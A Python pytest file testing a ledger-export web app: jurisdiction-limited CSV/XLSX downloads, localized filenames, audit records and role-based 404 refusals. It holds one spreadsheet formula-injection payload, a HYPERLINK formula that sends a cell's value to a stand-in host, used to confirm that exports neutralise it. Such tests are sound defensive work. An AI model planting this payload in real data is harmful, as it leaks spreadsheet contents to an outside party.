"""Exporting ledgers in the app: one's jurisdiction only, formulas neutralised, audited."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from web.client import Client, make_app

from collab.graph.sqlite_engine import SqliteStore

FORMULA = '=HYPERLINK("http://x/?"&A1)'


@pytest.fixture
def app(fresh: SqliteStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("COLLAB_INSTANCE", str(tmp_path / "instance"))
    return make_app(fresh)


def test_a_clue_ledger_of_ones_own_jurisdiction(app, fresh: SqliteStore,
                                                tmp_path: Path) -> None:
    fresh.upsert_nodes("Clue", [{"no": "WS-2023-0002", "title": FORMULA}])
    coord = Client(app)
    coord.sign_in("coord")
    response = coord.get("/export/clues.csv")
    assert response.status_code == 200
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat()
    name = f"问题线索台账-文山壮族苗族自治州-{today}.csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="clues-532600-{today}.csv"; filename*=UTF-8\'\'{quote(name)}')
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    keys = {cell for row in rows for cell in row}
    assert "XS-2023-0001" in keys and "WS-2023-0002" in keys and "ZT-2023-0001" not in keys
    assert "'" + FORMULA in keys and FORMULA not in keys
    assert list((tmp_path / "instance" / "exports").iterdir()) == []
    record = fresh.find("AuditRecord", order_by="seq", descending=True, limit=1).items[0]
    assert (record.get("kind"), record.get("event"), record.get("object_label")) == (
        "export", "exports.download", "Clue")


def test_xlsx_exports_and_refusals(app) -> None:
    lead, liaison = Client(app), Client(app)
    lead.sign_in("lead")
    liaison.sign_in("liaison")
    book = lead.get("/export/issues.xlsx")
    assert book.status_code == 200 and book.data[:2] == b"PK"
    assert liaison.get("/export/clues.csv").status_code == 404
    assert lead.get("/export/users.csv").status_code == 404
